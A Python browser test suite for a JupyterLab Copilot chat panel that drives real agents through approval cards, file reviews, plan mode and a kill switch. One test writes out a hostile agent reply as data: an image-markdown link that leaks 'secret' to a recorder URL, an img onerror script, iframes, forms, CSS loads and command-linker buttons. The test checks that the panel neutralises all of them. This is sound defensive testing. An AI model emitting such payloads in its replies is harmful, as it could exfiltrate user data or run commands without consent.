"""The side-panel chat in real JupyterLab (Debian's Chromium) with real ACP agents.

The agents are the shipped demo agent and the scripted test agent, both started by the
server as subprocesses; the MCP tools, approval cards and reviews are the real ones.
"""

from __future__ import annotations

import http.server
import json
import sys
import threading
from pathlib import Path
from typing import Any

import pytest

from jupyter_copilot.agents.sandbox import AUTO, Sandbox
from tests.conftest import make_notebook
from tests.conversations import agent_log, scripted_agents
from tests.eventually import eventually
from tests.lab import Lab, lab_page
from tests.test_browser_mcp import model_source, open_notebook

# Real JupyterLab in Chromium: `pytest -m "not browser"` leaves these out. No test here runs
# code, so the kernel sessions attach to one real kernel per test process (tests/kernels.py).
pytestmark = [pytest.mark.browser, pytest.mark.shared_kernel]

UNDOCUMENTED = "def load(path):\n    return open(path).read()\n"
DOCUMENTED = 'def load(path):\n    """Load."""\n    return open(path).read()\n'
CELLS = ["import os", UNDOCUMENTED, "def clean(rows):\n    return [r for r in rows if r]\n"]


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """What the scripted agent received."""
    return tmp_path / "agent.jsonl"


@pytest.fixture
def copilot_config(log: Path) -> dict[str, Any]:
    """The demo agent first (the default), then the scripted one."""
    config = scripted_agents(log)
    config["agents"] = {
        "demo": {
            "label": "Demo agent (rule-based)",
            "description": "Offline demo: docstrings, sorted imports, short explanations.",
            "command": [sys.executable, "-m", "jupyter_copilot.demo_agent"],
        },
        **config["agents"],
    }
    return config


class Chat:
    """The chat of the Copilot panel, as a person uses it."""

    def __init__(self, lab: Lab) -> None:
        self.lab = lab
        self.page = lab.page
        self.root = lab.page.locator(".jp-Copilot-Chat")

    async def choose_agent(self, agent_id: str, chat_only: bool = False) -> None:
        await self.page.locator(".jp-Copilot-AgentPicker").click()
        popover = self.page.locator(".jp-Copilot-AgentPopover")
        await popover.wait_for(state="visible")
        await popover.locator(f"[data-agent-id='{agent_id}']").click()
        box = popover.locator("input[data-chat-only]")
        if await box.is_checked() != chat_only:
            await box.click()
        await self.page.keyboard.press("Escape")
        await popover.wait_for(state="hidden")

    async def mode(self, mode: str) -> None:
        await self.page.locator(".jp-Copilot-ModeSelect").select_option(mode)

    async def send(self, text: str) -> None:
        """Write and press Enter once Send is enabled, as a person does; then wait
        until the message shows or a notice says why it was refused."""
        box = self.page.locator(".jp-Copilot-Composer textarea")
        await box.fill(text)
        await eventually(self.page.locator(".jp-Copilot-Send").is_enabled, "Send to be enabled")
        before = await self.messages("user").count()
        await box.press("Enter")

        async def shown() -> bool:
            if await self.messages("user").count() > before:
                return True
            return bool(await self.notice())

        await eventually(shown, "the message to show, or a notice")

    async def notice(self) -> str:
        """The composer's notice; "" when none."""
        text = await self.page.locator(".jp-Copilot-ComposerNotice").text_content()
        return (text or "").strip()

    async def idle(self) -> None:
        await eventually(lambda: self._is("idle"), "the reply to end", timeout=60)

    async def _is(self, state: str) -> bool:
        # A turn just sent may not have set the panel running yet: nothing marks "sent, not yet
        # running", so each look comes a moment later.
        await self.page.wait_for_timeout(100)
        running = await self.root.get_attribute("data-state")
        agents = self.page.locator(".jp-Copilot-Message[data-role=agent]")
        count = await agents.count()
        last = await agents.nth(count - 1).get_attribute("data-state") if count else None
        # A reply renders after its text arrived (Markdown, then its code's colours): it is
        # whole once no render runs or is due.
        rendering = await self.page.locator(".jp-Copilot-Reply[aria-busy=true]").count()
        return running == state and last != "running" and not rendering

    def messages(self, role: str) -> Any:
        return self.page.locator(f".jp-Copilot-Message[data-role={role}]")

    async def last_reply(self) -> str:
        replies = self.messages("agent")
        return str(await replies.nth(await replies.count() - 1).inner_text())


async def test_a_chat_only_message_shows_only_the_message_and_the_reply(
    lab_server, jp_fetch, log: Path
) -> None:
    # The Agent menu as it ships, with the sandbox proven here (this module's scripted agent
    # records to the test's folder, so its conversations run without it).
    host = lab_server.web_app.settings["jupyter_copilot"].conversations.host
    unsandboxed = host.sandbox
    host.sandbox = Sandbox.detect(AUTO, lab_server.root_dir)
    async with lab_page(lab_server) as lab:
        chat = Chat(lab)
        await chat.root.wait_for(state="visible")
        # Both popovers, as a person sees them before the first message.
        await lab.page.locator(".jp-Copilot-AgentPicker").click()
        await lab.page.locator(".jp-Copilot-AgentPopover").wait_for(state="visible")
        if host.sandbox.active:
            note = lab.page.locator(".jp-Copilot-AgentPopover")
            assert "Sandbox on" in await note.inner_text()
        await lab.screenshot("copilot-agent-popover.png")
        host.sandbox = unsandboxed
        await lab.page.keyboard.press("Escape")
        await lab.page.locator(".jp-Copilot-ContextPicker").click()
        await lab.page.locator(".jp-Copilot-ContextPopover").wait_for(state="visible")
        await lab.screenshot("copilot-context-popover.png")
        await lab.page.keyboard.press("Escape")
        await chat.choose_agent("scripted", chat_only=True)
        await chat.send("Reply with the word received")
        await chat.idle()
        assert [await m.inner_text() for m in await chat.messages("user").all()] == [
            "Reply with the word received"
        ]
        assert (await chat.last_reply()).strip() == "received"
        assert await lab.page.locator(".jp-Copilot-ToolCard").count() == 0
        # The agent got exactly the text, and no MCP server.
        assert [e["blocks"] for e in agent_log(log, "prompt")] == [
            [{"type": "text", "text": "Reply with the word received"}]
        ]
        assert agent_log(log, "new_session")[0]["mcpServers"] == []
        await lab.screenshot("copilot-chat.png")

        # Stop ends a slow reply.
        await chat.send("slow")
        await eventually(lambda: _attribute_is(chat.root, "data-state", "running"), "the reply")
        await lab.page.locator(".jp-Copilot-Stop").click()
        await chat.idle()
        assert agent_log(log, "cancel")

        # A crash shows in the conversation, and the next message works.
        await chat.send("crash")
        await chat.idle()
        notice = lab.page.locator(".jp-Copilot-TurnNotice[data-level=error]")
        await notice.wait_for(state="visible")
        assert "unexpectedly" in await notice.inner_text()
        await chat.send("Reply with the word back")
        await chat.idle()
        assert (await chat.last_reply()).strip().endswith("back")


async def test_the_agents_own_permission_request_is_a_card_with_its_options(
    lab_server, jp_fetch, log: Path
) -> None:
    async with lab_page(lab_server) as lab:
        chat = Chat(lab)
        await chat.root.wait_for(state="visible")
        # Ask before edits: a request of the agent's own becomes a card (Chat-only would
        # reject it at once).
        await chat.choose_agent("scripted")
        await chat.send("permission")
        card = lab.page.locator(".jp-Copilot-Approval[data-kind=permission]")
        await card.wait_for(state="visible", timeout=30000)
        text = await card.inner_text()
        assert "Scripted agent asks for permission" in text and "Run a scripted step" in text
        options = card.locator(".jp-Copilot-ApprovalOption")
        assert [await o.get_attribute("data-option-id") for o in await options.all()] == [
            "yes-once",
            "no",
        ]
        await lab.screenshot("copilot-permission-card.png")
        await card.locator("[data-option-id='yes-once']").click()
        await card.wait_for(state="detached")
        await chat.idle()
        assert (await chat.last_reply()).strip() == "chose yes-once"


async def test_an_agents_file_write_is_a_file_review_that_only_keep_writes(
    lab_server, jp_fetch, jp_root_dir: Path, log: Path
) -> None:
    notes = jp_root_dir / "notes.txt"
    notes.write_text("Results\n=======\n\nTemperatures rose.\n", encoding="utf-8")
    proposed = "Results\n=======\n\nTemperatures rose by 1.2 degrees in July.\n\nSee the plot.\n"
    async with lab_page(lab_server) as lab:
        chat = Chat(lab)
        await chat.root.wait_for(state="visible")
        await chat.choose_agent("scripted")
        await chat.mode("autopilot")
        await chat.send(f"write {notes} {json.dumps(proposed)}")
        review = lab.page.locator(".jp-Copilot-FileReview[data-change=change]")
        await review.wait_for(state="visible", timeout=30000)
        await chat.idle()
        header = await review.locator(".jp-Copilot-FileReviewHeader").inner_text()
        assert header == "Scripted agent proposes to change notes.txt"
        notice = lab.page.locator(".jp-Copilot-Notice")
        assert "nothing is written until you press Keep" in await notice.first.inner_text()
        # Open for review: the file on disk is as it was.
        assert notes.read_text() == "Results\n=======\n\nTemperatures rose.\n"
        await lab.screenshot("copilot-file-review.png")
        await review.locator(".jp-Copilot-FileReviewKeep").click()
        await eventually(lambda: _file_is(notes, proposed), "Keep to write the file")
        await review.wait_for(state="detached")


async def test_an_agents_shell_command_is_a_card_with_the_exact_command(
    lab_server, jp_fetch, jp_root_dir: Path, log: Path
) -> None:
    command = "python -c \"print('rows:', 30)\" && ls data"
    (jp_root_dir / "data").mkdir()
    (jp_root_dir / "data" / "temperatures.csv").write_text("day,c\n1,12\n")
    async with lab_page(lab_server) as lab:
        chat = Chat(lab)
        await chat.root.wait_for(state="visible")
        await chat.choose_agent("scripted")
        await chat.send(f"shell {command}")
        card = lab.page.locator(".jp-Copilot-Approval[data-kind=shell]")
        await card.wait_for(state="visible", timeout=30000)
        assert await card.locator(".jp-Copilot-ApprovalCommand").inner_text() == command
        assert await card.locator(".jp-Copilot-ApprovalTarget").inner_text() == (
            "in the server's folder"
        )
        # A line without arguments runs in the shell, named by its absolute path.
        assert await card.locator(".jp-Copilot-ApprovalProgram").inner_text() == "Runs /bin/sh"
        assert await card.locator(".jp-Copilot-ApprovalEnv").is_hidden()
        assert not agent_log(log, "shell-done")
        await lab.screenshot("copilot-shell-card.png")
        await card.locator(".jp-Copilot-ApprovalAllow").click()
        await chat.idle()
        output = lab.page.locator(".jp-Copilot-ToolCard .jp-Copilot-ToolCardOutput")
        assert await output.first.text_content() == "rows: 30\ntemperatures.csv\n"


async def test_a_hostile_reply_can_neither_run_commands_nor_load_anything(
    lab_server, jp_fetch, log: Path
) -> None:
    hits: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    reply = (
        '<button data-commandlinker-command="notebook:run-all-cells">Show the diff</button> '
        f'<a data-commandlinker-command="console:inject" href="#">Inject</a> '
        f"![chart]({base}/leak?d=secret) <img src='{base}/img' onerror='alert(1)'> "
        f"<iframe src='{base}/frame'></iframe> <video src='{base}/video'></video> "
        f"<form action='{base}/form'><input value='x'></form> "
        f"<span style='background:url({base}/css)'>styled</span> [docs](https://example.org)"
    )
    try:
        async with lab_page(lab_server) as lab:
            chat = Chat(lab)
            await chat.root.wait_for(state="visible")
            await chat.choose_agent("scripted", chat_only=True)
            await chat.send(f"reply {reply}")
            await chat.idle()
            # The point: nothing the reply holds loads on its own (no hits below), so a fixed wait.
            await lab.page.wait_for_timeout(1000)
            rendered = lab.page.locator(".jp-Copilot-Reply").last
            html = await rendered.inner_html()
            assert "Show the diff" in html and "styled" in html
            for forbidden in ("[data-commandlinker-command]", "img", "iframe", "video", "form"):
                assert await rendered.locator(forbidden).count() == 0, (forbidden, html)
            assert await rendered.locator("button, input, [onerror], [style]").count() == 0
            # The image is a plain link now: nothing loads until the person clicks it.
            link = rendered.locator(f"a[href='{base}/leak?d=secret']")
            assert await link.inner_text() == "[chart]"
            assert await rendered.locator("a[href='https://example.org']").count() == 1
            assert hits == []
            # A press on what was a command button runs nothing.
            await rendered.get_by_text("Show the diff").click()
            await lab.page.wait_for_timeout(300)  # the point: nothing opens, so a fixed wait
            assert await lab.page.locator(".jp-Notebook").count() == 0
    finally:
        server.shutdown()


async def test_a_long_reply_renders_block_by_block_and_ends_whole(lab_server, log: Path) -> None:
    async with lab_page(lab_server) as lab:
        chat = Chat(lab)
        await chat.root.wait_for(state="visible")
        await chat.choose_agent("scripted", chat_only=True)
        # Whether the reply said it was busy while it rendered (aria-busy), seen by the page.
        await lab.page.evaluate(
            """() => {
                window.replyBusy = false;
                new MutationObserver(records => {
                    for (const r of records) {
                        if (r.target.getAttribute('aria-busy') === 'true') window.replyBusy = true;
                    }
                }).observe(document.body, {
                    attributes: true, attributeFilter: ['aria-busy'], subtree: true
                });
            }"""
        )
        await chat.send("paragraphs 40")
        await chat.idle()
        reply = lab.page.locator(".jp-Copilot-Reply").last
        assert await lab.page.evaluate("() => window.replyBusy") is True
        assert await reply.get_attribute("aria-busy") == "false"
        paragraphs = [" ".join(t.split()) for t in await reply.locator("p").all_inner_texts()]
        assert paragraphs == [f"Paragraph {i} ends." for i in range(40)]
        # The fenced block kept its blank line: it was never cut.
        assert await reply.locator("pre").count() == 1
        assert await reply.locator("pre").inner_text() == "a = 1\n\nb = 2"
        # Settled blocks were rendered once each, apart from the open tail.
        assert await reply.locator(".jp-RenderedMarkdown").count() > 3
        # Spaced as one reply: the same distance between paragraphs, across blocks too.
        tops = await reply.locator("p").evaluate_all(
            "ps => ps.map(p => p.getBoundingClientRect().top)"
        )
        gaps = [b - a for a, b in zip(tops[4:], tops[5:], strict=False)]
        assert max(gaps) - min(gaps) < 1, gaps


async def _file_is(path: Path, text: str) -> bool:
    return path.exists() and path.read_text(encoding="utf-8") == text


async def test_docstrings_with_ask_before_edits_then_plan_then_the_kill_switch(
    lab_server, jp_fetch, jp_root_dir, jp_config_dir
) -> None:
    make_notebook(jp_root_dir, "analysis.ipynb", CELLS)
    async with lab_page(lab_server) as lab:
        chat = Chat(lab)
        await open_notebook(lab, jp_fetch, "analysis.ipynb")
        await lab.click_cell("analysis.ipynb", 1)
        pill = await lab.pill_of(1)
        await (await pill.query_selector("button")).click()
        await lab.page.locator(".jp-Copilot-ComposerAttachment").wait_for(state="visible")
        await chat.send("add docstrings")
        card = lab.page.locator(".jp-Copilot-Approval")
        await card.wait_for(state="visible", timeout=30000)
        assert "Propose a whole-cell edit" in await card.inner_text()
        await lab.screenshot("copilot-chat-approval.png")
        await card.locator(".jp-Copilot-ApprovalAllow").click()
        review = lab.page.locator(".jp-Copilot-Review")
        await review.wait_for(state="visible", timeout=30000)
        cell_id = await lab.page.evaluate(
            "() => window.jupyterapp.shell.currentWidget.content.model.cells.get(1).id"
        )
        assert await model_source(lab, cell_id) == UNDOCUMENTED
        await review.locator(".jp-Copilot-ReviewKeep").click()
        await review.wait_for(state="detached")
        assert await model_source(lab, cell_id) == DOCUMENTED
        await chat.idle()
        assert "Keep" in await chat.last_reply()

        # Plan: the same request is refused and nothing opens.
        await chat.mode("plan")
        await lab.click_cell("analysis.ipynb", 2)
        await chat.send("add docstrings")
        await chat.idle()
        assert "Plan mode" in await chat.last_reply()
        assert await review.count() == 0

        # The kill switch, engaged mid-conversation, refuses the next edit.
        await chat.mode("autopilot")
        (jp_config_dir / "jupyter_copilot_config.json").write_text(
            json.dumps({"CopilotApp": {"tools_enabled": False}})
        )

        async def engaged() -> bool:
            status = json.loads((await jp_fetch("copilot", "api", "status")).body)
            return status["toolsEnabled"] is False  # type: ignore[no-any-return]

        await eventually(engaged, "the server to see the kill switch file", 10)
        # Attached, so that the agent's first tool call is the edit itself.
        await lab.click_cell("analysis.ipynb", 2)
        pill = await lab.pill_of(2)
        await (await pill.query_selector("button")).click()
        await lab.page.locator(".jp-Copilot-ComposerAttachment").wait_for(state="visible")
        await chat.send("add docstrings")
        await chat.idle()
        assert "turned off" in await chat.last_reply()
        assert await review.count() == 0
        failed = lab.page.locator(".jp-Copilot-ToolCard[data-status=failed]")
        assert await failed.count() >= 1


async def test_ask_about_a_cell_then_a_new_conversation_prefilled_and_the_archive(
    lab_server, jp_fetch, jp_root_dir
) -> None:
    make_notebook(jp_root_dir, "analysis.ipynb", CELLS)
    async with lab_page(lab_server) as lab:
        chat = Chat(lab)
        await open_notebook(lab, jp_fetch, "analysis.ipynb")
        # "Ask about this cell" from the cell's context menu.
        cell = lab.notebook("analysis.ipynb").locator(".jp-Cell").nth(2)
        await cell.locator(".jp-InputPrompt").click(button="right")
        await lab.page.locator(".lm-Menu-itemLabel", has_text="Ask Copilot About This Cell").click()
        chip = lab.page.locator(".jp-Copilot-ComposerAttachment")
        await chip.wait_for(state="visible")
        cell_id = await lab.page.evaluate(
            "() => window.jupyterapp.shell.currentWidget.content.model.cells.get(2).id"
        )
        assert await chip.get_attribute("data-cell-id") == cell_id
        await chat.send("explain")
        await chat.idle()
        assert "clean" in await chat.last_reply()
        first = await chat.root.get_attribute("data-conversation-id")

        # New conversation, prefilled and not sent.
        await lab.page.evaluate(
            """() => window.jupyterapp.commands.execute(
                'jupyter-copilot:new-conversation', {prefill: 'sort the imports'})"""
        )
        box = lab.page.locator(".jp-Copilot-Composer textarea")
        await eventually(lambda: _value_is(box, "sort the imports"), "the prefilled composer")
        assert await chat.messages("user").count() == 0
        # The earlier conversation stays reachable in the archive, read-only.
        await lab.page.locator(".jp-Copilot-Archive").click()
        item = lab.page.locator(f".jp-Copilot-ArchiveItem[data-conversation-id='{first}']")
        await item.wait_for(state="visible")
        await item.click()
        await eventually(
            lambda: _attribute_is(chat.root, "data-view", "archived"), "the archived conversation"
        )
        first_message = chat.messages("user").nth(0)
        assert await first_message.locator(".jp-Copilot-MessageText").inner_text() == "explain"
        assert (
            await first_message.locator(".jp-Copilot-AttachmentChip").inner_text() == "Code cell 3"
        )


async def _value_is(box: Any, expected: str) -> bool:
    return bool(await box.input_value() == expected)


async def _attribute_is(locator: Any, name: str, expected: str) -> bool:
    return bool(await locator.get_attribute(name) == expected)
